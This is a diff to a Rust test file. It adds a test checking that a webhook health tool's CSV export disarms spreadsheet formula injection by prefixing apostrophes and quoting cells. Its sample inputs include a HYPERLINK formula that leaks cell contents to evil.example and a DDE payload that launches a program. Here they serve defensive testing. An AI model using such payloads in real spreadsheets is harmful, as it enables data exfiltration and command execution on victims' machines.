@@ -152,6 +152,52 @@ fn a_spreadsheet_and_a_channel_get_text_that_stays_text() {
     assert_eq!(row.replace("\\|", "").matches('|').count(), 7, "no cell of its own: {row}");
 }
 
+/// Byte for byte: what would be a formula begins with an apostrophe, and quotes hold what would end a cell or a row.
+#[test]
+fn a_spreadsheet_runs_nothing_that_others_wrote() {
+    let scene = Scene::new();
+    let hostile = [
+        (
+            "=HYPERLINK(\"http://evil.example/\"&A1,\"x\")",
+            "\"'=HYPERLINK(\"\"http://evil.example/\"\"&A1,\"\"x\"\")\"",
+        ),
+        ("+1+cmd|' /C calc'!A0", "'+1+cmd|' /C calc'!A0"),
+        ("-2+3", "'-2+3"),
+        ("@SUM(1)", "'@SUM(1)"),
+        ("\t=1", "'\t=1"),
+        ("\r=1", "\"'\r=1\""),
+        ("\u{feff}=1", "'\u{feff}=1"),
+        ("a\r\n=1,\"b\"", "\"a\r\n=1,\"\"b\"\"\""),
+    ];
+    for (why, _) in hostile {
+        let id = scene.webhook("https://a.example/=1,%22+2%22,@x?=1+1,2=3");
+        scene.database.execute(&format!(
+            "insert into hookyard.endpoints (webhook_id, last_failure, last_failure_at)
+             values ('{id}', $why${why}$why$, now())"
+        ));
+    }
+    let csv = health(&scene, &["--csv"]).succeeds().stdout;
+    let (head, mut rest) = csv.split_once("\r\n").expect("a head");
+    let at = |name: &str| head.split(',').position(|one| one == name).expect("a column");
+    assert_eq!(at("url"), 1);
+    for (_, cell) in hostile {
+        let (id, after) = rest.split_once(',').expect("an id");
+        assert!(id.len() == 36, "{rest:?}");
+        let after = after.strip_prefix("\"https://a.example/=1,%22+2%22,@x?=***\",").expect(after);
+        let plain = at("last_failure") - 2;
+        let begins = after.match_indices(',').nth(plain - 1).expect("columns").0 + 1;
+        rest = after[begins..].strip_prefix(cell).unwrap_or_else(|| panic!("{cell:?} {after:?}"));
+        let (numbers, next) = rest.split_once("\r\n").expect("the row ends");
+        assert_eq!(
+            numbers.matches(',').count(),
+            head.split(',').count() - 1 - at("last_failure"),
+            "{numbers:?}"
+        );
+        rest = next;
+    }
+    assert_eq!(rest, "");
+}
+
 /// Hostile text in every column that a form may show.
 #[test]
 fn what_others_wrote_is_shown_and_not_obeyed() {
